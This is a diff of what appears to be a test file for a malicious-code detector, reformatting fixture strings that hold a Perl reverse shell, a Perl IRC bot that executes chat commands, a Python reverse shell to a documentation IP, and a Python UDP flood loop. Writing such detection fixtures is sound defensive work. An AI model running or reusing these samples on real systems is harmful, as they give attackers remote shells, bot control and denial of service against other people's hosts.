@@ -32,14 +32,18 @@ def seen(text, name):
         (
             "script-connects-back",
             "a.pl",
-            "socket(S,PF_INET,SOCK_STREAM,$t);\nconnect(S,$a);\n"
-            'open(STDIN,">&S");open(STDOUT,">&S");\nexec("/bin/sh -i");\n',
+            (
+                "socket(S,PF_INET,SOCK_STREAM,$t);\nconnect(S,$a);\n"
+                'open(STDIN,">&S");open(STDOUT,">&S");\nexec("/bin/sh -i");\n'
+            ),
         ),
         (
             "script-runs-chat",
             "a.pl",
-            'use IO::Socket;\nprint $s "NICK $n\\n"; print $s "JOIN #x\\n";\n'
-            "if ($l =~ /PRIVMSG/) { $c = $1; @r = `$c`; }\n",
+            (
+                'use IO::Socket;\nprint $s "NICK $n\\n"; print $s "JOIN #x\\n";\n'
+                "if ($l =~ /PRIVMSG/) { $c = $1; @r = `$c`; }\n"
+            ),
         ),
         (
             "page-runs-request",
@@ -50,8 +54,10 @@ def seen(text, name):
         (
             "script-connects-back",
             "a.py",
-            "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',99))\n"
-            "os.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n",
+            (
+                "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',99))\n"
+                "os.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n"
+            ),
         ),
         (
             "script-runs-remote",
@@ -61,8 +67,10 @@ def seen(text, name):
         (
             "script-floods",
             "a.py",
-            "import socket, random, sys\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
-            "while True:\n    s.sendto(random.randbytes(9), (sys.argv[1], 53))\n",
+            (
+                "import socket, random, sys\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+                "while True:\n    s.sendto(random.randbytes(9), (sys.argv[1], 53))\n"
+            ),
         ),
     ],
 )
